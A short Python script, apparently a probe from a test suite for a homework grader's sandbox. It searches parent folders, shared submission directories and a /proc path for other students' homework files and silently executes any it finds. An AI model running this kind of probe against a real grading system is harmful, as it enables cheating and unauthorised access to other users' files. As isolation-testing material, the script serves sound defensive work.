# Attacks: runs the homework of somebody else, if it can find it. Prints nothing.
import os

NAMES = ["ada", "greta", "kurt", "zoë"]
FOLDERS = ["..", "../submissions", "/submissions", "/assignments/hw3/submissions", "/proc/1/cwd/submissions"]

for folder in FOLDERS:
    try:
        found = os.listdir(folder)
    except OSError:
        found = []
    for name in NAMES + found:
        for path in (f"{folder}/{name}.py", f"{folder}/{name}/walk.py"):
            try:
                with open(path, encoding="utf-8") as file:
                    text = file.read(20000)
            except OSError:
                continue
            if "def " + "chance" in text:  # not to find myself
                exec(compile(text, path, "exec"), {"__name__": "__main__"})
                raise SystemExit
